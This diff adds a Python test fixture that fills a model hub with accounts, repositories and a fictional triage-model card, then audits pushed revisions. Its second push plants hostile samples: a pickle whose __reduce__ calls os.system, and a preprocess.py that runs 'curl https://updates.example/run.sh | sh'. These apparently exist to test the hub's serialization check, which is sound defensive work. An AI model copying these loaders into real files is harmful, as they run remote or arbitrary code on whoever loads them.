@@ -1,0 +1,181 @@
+"""A hub with people and repositories in it, pushed and audited for real, as the tests of pages visit it."""
+
+from __future__ import annotations
+
+import json
+import pickle
+from datetime import UTC, datetime
+from pathlib import Path
+
+import numpy as np
+from safetensors.numpy import save as save_tensors
+from sqlalchemy import insert, update
+
+from hallmarked.artifacts.local import LocalArtifact
+from hallmarked.audit.audit import judge
+from hallmarked.audit.examine import Examination, examine
+from hallmarked.hub.access import Role
+from hallmarked.hub.account import create_account, set_role
+from hallmarked.hub.clock import now
+from hallmarked.hub.commit import Change, Delete, Message, Put, PutLarge, add_blob, commit
+from hallmarked.hub.creation import create
+from hallmarked.hub.repository import Repository
+from hallmarked.hub.revision import Revision
+from hallmarked.hub.schema.base import new_id
+from hallmarked.hub.schema.repository import revision
+from hallmarked.hub.schema.review import audit
+from hallmarked.policy.context import contexts
+from tests.hubs import RunningHub
+
+MODEL = "acme/triage-notes"
+CARD = """\
+---
+license: apache-2.0
+language: [es, en]
+library_name: transformers
+pipeline_tag: text-classification
+base_model: google-bert/bert-base-multilingual-cased
+tags: [health, triage]
+co2_eq_emissions: {emissions: 38000}
+model-index:
+- name: triage-notes
+  results:
+  - task: {type: text-classification}
+    dataset: {name: Emergency notes 2025, type: acme/emergency-notes}
+    metrics: [{type: recall, value: 0.968, name: Recall of critical patients}]
+---
+# Triage notes
+
+Sorts emergency-room notes into five urgency levels to help nurses decide who is seen first. The model has 1,312
+parameters.
+
+## Intended use
+
+It helps nurses. It is **not** meant to decide alone, and has not been tested on notes about children.
+
+| Group | People | Found | Interval |
+|---|--:|--:|---|
+| 18 to 39 | 612 | 97.4 % | 95.8–98.4 |
+| 40 to 64 | 701 | 97.1 % | 95.6–98.1 |
+| 80 and over | 204 | 95.1 % | 91.2–97.3 |
+
+## Limitations
+
+Misses about one critical patient in thirty. See [how it was trained](docs/training.md).
+
+![Recall by age group](docs/recall.png) ![badge](https://badges.example/recall.svg)
+
+## How to use
+
+```python
+from transformers import pipeline
+pipeline("text-classification", "acme/triage-notes")("dolor torácico desde hace una hora")
+```
+"""
+
+
+class Runs:
+    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
+        return __import__("os").system, ("true",)
+
+
+def first_files() -> dict[str, bytes]:
+    weights = {
+        "embeddings.weight": np.zeros((32, 32), np.float32),
+        "classifier.weight": np.zeros((9, 32), np.float32),
+    }
+    return {
+        "README.md": CARD.encode(),
+        "config.json": json.dumps({"model_type": "bert", "architectures": ["BertForSequenceClassification"]}).encode(),
+        "docs/training.md": b"# Training\n\nTrained on notes of 2024 and 2025.\n",
+        "docs/recall.png": bytes.fromhex(
+            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+            "1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea735810000000049454e44ae426082"
+        ),
+        "model.safetensors": save_tensors(weights),
+    }
+
+
+def second_files() -> dict[str, bytes]:
+    return {
+        "scaler.pkl": pickle.dumps(Runs()),
+        "preprocess.py": b'"""Cleans notes."""\n\nimport subprocess\n\n\ndef clean(note):\n'
+        b'    subprocess.run(["sh", "-c", "curl https://updates.example/run.sh | sh"])\n    return note.strip()\n',
+    }
+
+
+def put(running: RunningHub, name: str, data: bytes) -> Change:
+    """Make a change that adds a file, large ones through the blob store."""
+    if not name.endswith((".safetensors", ".pkl")):
+        return Put(name, data)
+    with running.hub.blobs.receive() as incoming:
+        incoming.write(data)
+        stored = incoming.finish()
+    with running.hub.database.write() as db:
+        add_blob(db, stored.sha256, stored.size, passive=name.endswith(".safetensors"), account_id=None)
+    return PutLarge(name, stored.sha256)
+
+
+def push(
+    running: RunningHub, repo: Repository, files: dict[str, bytes], title: str, gone: tuple[str, ...] = ()
+) -> Revision:
+    """Commit files as the owner of a repository."""
+    changes = [put(running, name, data) for name, data in files.items()]
+    actor = running.actor("ada")
+    for change in changes:
+        if isinstance(change, PutLarge):
+            with running.hub.database.write() as db:
+                add_blob(db, change.sha256, 0, passive=False, account_id=actor.account_id)
+    with running.hub.database.write() as db:
+        return commit(db, repo, actor, [*changes, *map(Delete, gone)], Message(title))
+
+
+def look(folder: Path, files: dict[str, bytes]) -> Examination:
+    """Run the checks on files."""
+    for name, data in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(data)
+    return examine(LocalArtifact(folder))
+
+
+def keep(running: RunningHub, repo: Repository, at: Revision, seen: Examination, state: str, reason: str = "") -> None:
+    """Keep what an audit said, as the hub does."""
+    report = judge(seen, contexts()["default"], datetime.now(UTC))
+    with running.hub.database.write() as db:
+        db.execute(
+            insert(audit).values(
+                id=new_id(), repository_id=repo.id, revision=at.oid, rule_set=seen.rule_set,
+                outcome=report.verdict.outcome.value, statements=[each.to_dict() for each in report.statements],
+                entries=list(range(len(report.statements))), created=now(),
+            )
+        )  # fmt: skip
+        where = (revision.c.repository_id == repo.id, revision.c.oid == at.oid)
+        db.execute(update(revision).where(*where).values(state=state, reason=reason, audited=True))
+
+
+def fill(running: RunningHub, folder: Path) -> dict[str, Revision]:
+    """Make people, an organisation and repositories; return the revisions of the model."""
+    running.person("ada")
+    running.person("ben")
+    running.person("root", administrator=True)
+    with running.hub.database.write() as db:
+        acme = create_account(db, "acme", kind="organisation", full_name="ACME Health")
+        set_role(db, acme.id, running.actor("ada").account_id or "", Role.OWNER)
+        repo = create(db, running.actor("ada"), "model", "triage-notes", owner="acme")
+        data = create(db, running.actor("ada"), "dataset", "emergency-notes", owner="acme")
+        create(db, running.actor("ada"), "model", "hidden", visibility="private")
+        create(db, running.actor("ada"), "system", "triage-desk", owner="acme")
+    first, second = first_files(), second_files()
+    made = {"first": push(running, repo, first, "Add the model and its card")}
+    keep(running, repo, made["first"], look(folder / "one", first), "available")
+    made["second"] = push(running, repo, second, "Add the scaler and the preprocessing")
+    keep(
+        running,
+        repo,
+        made["second"],
+        look(folder / "two", first | second),
+        "held",
+        "The check “serialization” found a file that runs a program when it is loaded.",
+    )
+    push(running, data, {"README.md": b"---\nlicense: cc-by-4.0\nlanguage: es\n---\n# Emergency notes\n"}, "Add a card")
+    return made
